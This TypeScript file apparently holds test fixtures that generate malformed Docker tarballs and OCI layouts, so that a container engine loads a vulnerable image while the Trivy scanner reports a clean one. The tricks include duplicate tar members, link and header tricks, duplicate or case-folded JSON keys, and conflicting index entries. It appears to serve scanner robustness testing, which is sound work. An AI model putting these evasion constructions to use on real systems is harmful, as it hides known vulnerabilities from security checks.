import { readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { classicDocker, hex, json, modernDocker } from "./image-files.ts";
import { clean, debian12 } from "./images.ts";
import { type Image, writeLayout } from "./oci.ts";
import { type TarEntry, tar } from "./tar.ts";

// Files that an engine loads as a vulnerable image, and Trivy reads as a clean one.

const bad = debian12();
const good = clean();
const badTar = classicDocker(bad);
const goodTar = classicDocker(good);
const [badLayer] = badTar.layers as [TarEntry];
const [goodLayer] = goodTar.layers as [TarEntry];

/** An extended header that gives the next member another name. */
function named(path: string, entry: TarEntry): TarEntry[] {
  const record = (length: number) => `${length} path=${path}\n`;
  const length = record(record(100).length).length;
  return [{ path: "PaxHeader", type: "x", data: record(length) }, entry];
}

const longName = (path: string, entry: TarEntry): TarEntry[] => [
  { path: "././@LongLink", type: "L", data: `${path}\0` },
  entry,
];

const zeros = Buffer.alloc(1024);
const goodManifest = (path = "manifest.json"): TarEntry => ({ path, data: goodTar.manifest.data ?? "" });
const spelt = (manifest: Readonly<Record<string, unknown>>): TarEntry => ({
  path: "manifest.json",
  data: json([manifest]),
});

/** Both images' members without their manifests. */
const both = [...goodTar.layers, goodTar.config, ...badTar.layers, badTar.config];
const lying = { Config: badTar.config.path, RepoTags: [], Layers: [badLayer.path] };

/** By the attack: the bytes of a tar. */
export const TARS: Readonly<Record<string, () => Buffer>> = {
  "whose layer is twice": () =>
    tar([{ ...badLayer, data: goodLayer.data ?? "" }, badLayer, badTar.config, badTar.manifest]),
  "whose layer is twice, spelt with ./": () =>
    tar([
      { ...badLayer, data: goodLayer.data ?? "" },
      { ...badLayer, path: `./${badLayer.path}` },
      badTar.config,
      badTar.manifest,
    ]),
  "whose layer is twice, spelt with //": () =>
    tar([
      { ...badLayer, data: goodLayer.data ?? "" },
      { ...badLayer, path: badLayer.path.replace("/", "//") },
      badTar.config,
      badTar.manifest,
    ]),
  "whose layer is twice by an extended header": () =>
    tar([
      { ...badLayer, data: goodLayer.data ?? "" },
      ...named(badLayer.path, { ...badLayer, path: "x" }),
      badTar.config,
      badTar.manifest,
    ]),
  "whose layer is twice by a long name": () =>
    tar([
      { ...badLayer, data: goodLayer.data ?? "" },
      ...longName(badLayer.path, { ...badLayer, path: "x" }),
      badTar.config,
      badTar.manifest,
    ]),
  "whose layer is not what its configuration says": () =>
    tar([{ ...badLayer, data: goodLayer.data ?? "" }, badTar.config, badTar.manifest]),
  "whose layer is a link to a clean one": () =>
    tar([goodLayer, { path: badLayer.path, link: `../${goodLayer.path}` }, badTar.config, badTar.manifest]),
  "whose layer is a hard link to a clean one": () => {
    const copy = { path: `${badLayer.path.split("/")[0]}/x`, data: goodLayer.data ?? "" };
    return tar([copy, { path: badLayer.path, type: "1", link: "x" }, badTar.config, badTar.manifest]);
  },
  "with two manifests": () => tar([...both, goodTar.manifest, badTar.manifest]),
  "with a second ./manifest.json": () =>
    tar([...both, goodTar.manifest, { ...badTar.manifest, path: "./manifest.json" }]),
  "with a clean manifest.json and another index.json": () => {
    const other = modernDocker(bad);
    return tar([...goodTar.layers, goodTar.config, goodTar.manifest, ...other.others, ...other.layers, other.config]);
  },
  "whose index.json lists a second image for the same platform": () => {
    const [one, other] = [modernDocker(good), modernDocker(bad)];
    const manifests = [one, other].flatMap(({ others }) => {
      const index = others.find(({ path }) => path === "index.json");
      return JSON.parse(String(index?.data)).manifests as unknown[];
    });
    const rest = [...one.others, ...other.others].filter(
      ({ path }) => path.startsWith("blobs/sha256/") && path.length > 20,
    );
    const index = { path: "index.json", data: json({ schemaVersion: 2, manifests }) };
    return tar([...rest, ...other.layers, other.config, ...one.layers, one.config, index, one.manifest]);
  },
  "whose blob has another name than its content": () => {
    const one = modernDocker(bad);
    const [layer] = one.layers as [TarEntry];
    return tar([...one.others, { ...layer, data: goodLayer.data ?? "" }, one.config, one.manifest]);
  },
  "with members below a link": () =>
    tar([
      ...goodTar.layers,
      goodTar.config,
      goodTar.manifest,
      { path: "elsewhere", link: goodLayer.path.split("/")[0] ?? "" },
      { path: "elsewhere/layer.tar", data: badLayer.data ?? "" },
    ]),
  "whose configuration lists more layers than it has": () => {
    const config = JSON.parse(good.config.toString());
    config.rootfs.diff_ids.push(`sha256:${hex(bad.layers[0] as Buffer)}`);
    const data = json(config);
    return tar([
      goodLayer,
      { path: `${hex(data)}.json`, data },
      spelt({ ...lying, Config: `${hex(data)}.json`, Layers: [goodLayer.path] }),
    ]);
  },
  "whose configuration has another's name": () =>
    tar([goodLayer, { path: badTar.config.path, data: good.config }, spelt({ ...lying, Layers: [goodLayer.path] })]),
  "whose manifest has a key twice": () =>
    tar([
      ...both,
      {
        path: "manifest.json",
        data: `[{"Config":"${badTar.config.path}","Config":"${goodTar.config.path}","RepoTags":[],"Layers":["${badLayer.path}"],"Layers":["${goodLayer.path}"]}]`,
      },
    ]),
  "whose manifest has a key that Go takes for another": () =>
    tar([...both, spelt({ ...lying, config: goodTar.config.path, layerſ: [goodLayer.path] })]),
  "with a second tar behind its end": () =>
    Buffer.concat([
      tar([...goodTar.layers, goodTar.config, goodManifest()]),
      zeros,
      tar([...badTar.layers, badTar.config, badTar.manifest]),
    ]),
  "that is packed, whose layer is twice": () =>
    gzipSync(tar([{ ...badLayer, data: goodLayer.data ?? "" }, badLayer, badTar.config, badTar.manifest])),
};

/** Writes a layout of the vulnerable image and returns its folder. */
function layoutOf(folder: string, image: Image = bad): { blob: (digest: string) => string; folder: string } {
  writeLayout(folder, image);
  return { folder, blob: (digest) => join(folder, "blobs/sha256", digest.replace("sha256:", "")) };
}

const layerDigest = (image: Image): string =>
  JSON.parse(String(image.blobs.get(image.descriptor.digest))).layers[0].digest;

/** A packed layer, and how long it must be for a layout to be said to have it. */
function padded(layer: Buffer, length: number): Buffer {
  const room = length - layer.length;
  // Trivy reads gzip's content only up to the tar's end, and never these zeros.
  return room < 0 ? layer : Buffer.concat([layer, Buffer.alloc(room)]);
}

/** By the attack: makes a layout in a folder. */
export const LAYOUTS: Readonly<Record<string, (folder: string) => void>> = {
  "whose layer has another content of the right size": (folder) => {
    const { blob } = layoutOf(folder);
    const digest = layerDigest(bad);
    const clean = good.blobs.get(layerDigest(good)) as Buffer;
    writeFileSync(blob(digest), padded(clean, readFileSync(blob(digest)).length));
  },
  "whose manifest is another's": (folder) => {
    const { blob } = layoutOf(folder);
    for (const [digest, bytes] of good.blobs) writeFileSync(blob(digest), bytes);
    const other = String(good.blobs.get(good.descriptor.digest));
    writeFileSync(blob(bad.descriptor.digest), other.padEnd(bad.descriptor.size, " "));
  },
  "whose manifest leads to another's layers": (folder) => {
    const { blob } = layoutOf(folder);
    for (const [digest, bytes] of good.blobs) writeFileSync(blob(digest), bytes);
    const manifest = JSON.parse(String(bad.blobs.get(bad.descriptor.digest)));
    manifest.layers = JSON.parse(String(good.blobs.get(good.descriptor.digest))).layers;
    const data = json(manifest);
    writeFileSync(blob(hex(data)), data);
    const entry = { ...bad.descriptor, digest: `sha256:${hex(data)}`, size: data.length };
    writeFileSync(join(folder, "index.json"), json({ schemaVersion: 2, manifests: [entry] }));
  },
  "whose layer is a link that leads out of the workspace": (folder) => {
    const { blob } = layoutOf(folder);
    const path = blob(layerDigest(bad));
    const elsewhere = join(folder, "../..", "elsewhere.layer");
    renameSync(path, elsewhere);
    symlinkSync(elsewhere, path);
  },
};

/**
 * A second list of images, whose key Go's readers take for the first one's: they start an image that no other reader
 * sees. The first list has two images, so that the scanner gets our own layout with the one that is meant.
 */
const withSecondList = () => {
  const other = { ...bad.descriptor, platform: { os: "linux", architecture: "arm64" } };
  return json({ schemaVersion: 2, manifests: [other, good.descriptor], Manifests: [bad.descriptor] });
};

/** Layouts whose documents two readers read differently. */
export const DOCUMENTS: Readonly<Record<string, (folder: string) => void>> = {
  "whose index.json has a second list in capitals": (folder) => {
    twoImages(folder, {}, {});
    writeFileSync(join(folder, "index.json"), withSecondList());
  },
  "whose nested index has a second list in capitals": (folder) => {
    twoImages(folder, {}, {});
    const inner = withSecondList();
    writeFileSync(join(folder, "blobs/sha256", hex(inner)), inner);
    const mediaType = "application/vnd.oci.image.index.v1+json";
    const entry = { mediaType, digest: `sha256:${hex(inner)}`, size: inner.length };
    writeFileSync(join(folder, "index.json"), json({ schemaVersion: 2, manifests: [entry] }));
  },
  "whose manifest has its layers twice": (folder) => {
    twoImages(folder, {}, {});
    const layersOf = (image: Image) => JSON.parse(String(image.blobs.get(image.descriptor.digest))).layers;
    const manifest = JSON.parse(String(bad.blobs.get(bad.descriptor.digest)));
    const data = json({ ...manifest, layers: layersOf(bad), layerſ: layersOf(good) });
    writeFileSync(join(folder, "blobs/sha256", hex(data)), data);
    const entry = { ...bad.descriptor, digest: `sha256:${hex(data)}`, size: data.length };
    writeFileSync(join(folder, "index.json"), json({ schemaVersion: 2, manifests: [entry] }));
  },
  "that says that its first image is a proof of the second": (folder) =>
    twoImages(folder, { annotations: { "vnd.docker.reference.type": "attestation-manifest" } }, {}),
};

/** Layouts whose index leads Trivy to the clean image and all other readers to the bad one, which is to be judged. */
export const INDEXES: Readonly<Record<string, (folder: string) => void>> = {
  "that says that its first image is for another platform": (folder) =>
    twoImages(folder, { platform: { os: "linux", architecture: "arm64" } }, { platform: undefined }),
};

function twoImages(
  folder: string,
  first: Readonly<Record<string, unknown>>,
  second: Readonly<Record<string, unknown>>,
) {
  layoutOf(folder, good);
  layoutOf(folder, bad);
  const manifests = [
    { ...good.descriptor, ...first },
    { ...bad.descriptor, ...second },
  ];
  writeFileSync(join(folder, "index.json"), json({ schemaVersion: 2, manifests }));
}
